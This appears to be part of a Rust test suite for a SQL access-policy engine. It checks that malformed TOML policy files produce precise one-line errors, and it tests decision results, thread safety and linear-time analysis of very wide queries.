        ("[policy]\nname = \"t\"\ndefault = \"deny\"\nbogus = 1\n", 4, "unknown field `bogus`"),
        ("[policy]\nname = \"t\"\ndefault = \"maybe\"\n", 3, "unknown variant `maybe`"),
        ("[policy]\nname = \"other\"\ndefault = \"deny\"\n", 2, "must equal the file name `t`"),
        ("[policy]\nname = \"t\"\n", 1, "missing field `default`"),
        ("[policy\nname = \"t\"\n", 1, ""),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[rule]]\nname = \"a\"\naction = \"allow\"\nkinds = [\"select\", \"delet\"]\n",
            8,
            "unknown variant `delet`",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[rule]]\nname = \"a\"\naction = \"permit\"\n",
            7,
            "unknown variant `permit`",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[rule]]\nname = \"a\"\naction = \"allow\"\n\n[[rule]]\nname = \"a\"\naction = \"deny\"\n",
            10,
            "duplicate rule name `a` (first used on line 6)",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[rule]]\nname = \"default\"\naction = \"allow\"\n",
            6,
            "reserved",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[rule]]\nname = \"Bad Name\"\naction = \"allow\"\n",
            6,
            "rule name `Bad Name`",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[rule]]\nname = \"a\"\naction = \"allow\"\ntables = [\n  \"public.*\",\n  \"users\",\n]\n",
            10,
            "table pattern `users`",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[rule]]\nname = \"a\"\naction = \"allow\"\ntables = [\"Public.Users\"]\n",
            8,
            "table pattern",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[rule]]\nname = \"a\"\naction = \"deny\"\nfunctions = [\"pg_catalog.pg_sleep\"]\n",
            8,
            "function pattern",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[rule]]\nname = \"a\"\naction = \"allow\"\nkinds = []\n",
            8,
            "`kinds` is an empty list",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[rule]]\nname = \"a\"\naction = \"deny\"\nkinds = [\"select\"]\nwithout_where = true\n",
            9,
            "without_where",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[rule]]\nname = \"a\"\naction = \"deny\"\nwhere = true\n",
            8,
            "unknown field `where`",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[mask]]\ncolumn = \"email\"\nmode = \"redact\"\n\n[[mask]]\ncolumn = \"a..b\"\nmode = \"redact\"\n",
            9,
            "mask[1]",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[mask]]\ncolumn = \"email\"\nmode = \"partial\"\n",
            5,
            "requires `keep`",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[mask]]\ncolumn = \"email\"\nmode = \"blur\"\n",
            7,
            "unknown variant `blur`",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[detect]]\ndetector = \"regex\"\npattern = \"(\"\nmode = \"redact\"\n",
            5,
            "detect[0]",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\n\n[[detect]]\ndetector = \"card\"\nmode = \"redact\"\ncolour = 1\n",
            8,
            "unknown field `colour`",
        ),
        (
            "[policy]\nname = \"t\"\ndefault = \"deny\"\nallow_functions = [\"PG_READ_FILE\"]\n",
            4,
            "allow_functions",
        ),
    ];
    for (text, line, msg) in cases {
        let err = parse_err(text);
        let prefix = format!("policies/t.toml line {line}: ");
        assert!(
            err.starts_with(&prefix),
            "want {prefix:?}, got {err:?}\n{text}"
        );
        assert!(err.contains(msg), "want {msg:?} in {err:?}");
        assert!(!err.contains('\n'), "one line: {err:?}");
    }
}

#[test]
fn load_names_the_file() {
    let err = load(Path::new("/nonexistent/p.toml"))
        .unwrap_err()
        .to_string();
    assert!(err.starts_with("/nonexistent/p.toml: cannot read"), "{err}");
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("x.toml");
    std::fs::write(&path, "[policy]\nname = \"x\"\ndefault = \"nope\"\n").unwrap();
    let err = load(&path).unwrap_err().to_string();
    assert!(
        err.starts_with(&format!("{} line 3: ", path.display())),
        "{err}"
    );
}

#[test]
fn decision_shapes() {
    let p = shipped(READONLY);
    let d = p.decide("");
    assert_eq!((d.action, d.statements.len()), (Allow, 0));
    let d = p.decide("SELECT 1; SELECT 2;");
    assert_eq!(d.statements.len(), 2);
    assert_eq!(d.rule, "pg-readonly/read");
    assert_eq!(
        d.reason,
        "policy pg-readonly rule read: statement kind select is allowed"
    );
    // A parse error keeps one entry per statement.
    let d = p.decide("SELECT 1; SELEC 2; SELECT 3");
    assert_eq!(d.statements.len(), 3);
    assert_eq!(d.statements[1].kind, Kind::Other);
    assert!(d.reason.ends_with("(statement 2 of 3)"), "{}", d.reason);
    // Whole-message lexical errors have no statements.
    let d = p.decide("SELECT 'x");
    assert_eq!((d.action, d.statements.len()), (Deny, 0));
    assert_eq!(d.rule, "builtin/parse-error");
}

#[test]
fn policy_is_send_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Policy>();
    assert_send_sync::<Decision>();
}

#[test]
fn wide_statements_stay_linear() {
    // Flat lists are fine for the nesting estimate; none of them may make the analysis quadratic.
    let n = 20_000;
    let list = |f: &dyn Fn(usize) -> String| (0..n).map(f).collect::<Vec<_>>().join(", ");
    let cases = [
        format!("SELECT 1 FROM {}", list(&|i| format!("t{i}"))),
        format!(
            "SELECT {} FROM {}",
            list(&|i| format!("c{i}")),
            list(&|i| format!("t{i} a{i}"))
        ),
        format!("SELECT {}", list(&|i| format!("f{i}()"))),
        format!(
            "WITH {} SELECT 1 FROM {}",
            list(&|i| format!("c{i} AS (SELECT 1)")),
            list(&|i| format!("c{i}"))
        ),
        format!(
            "WITH {} SELECT 1",
            list(&|i| format!("d{i} AS (DELETE FROM t{i} WHERE a = 1)"))
        ),
    ];
    let policies = [permissive(), masking()];
    for sql in &cases {
        for p in &policies {
            let d = p.decide(sql);
            assert_eq!(d.action, Allow, "{}: {}", &sql[..60], d.reason);
        }
    }
}
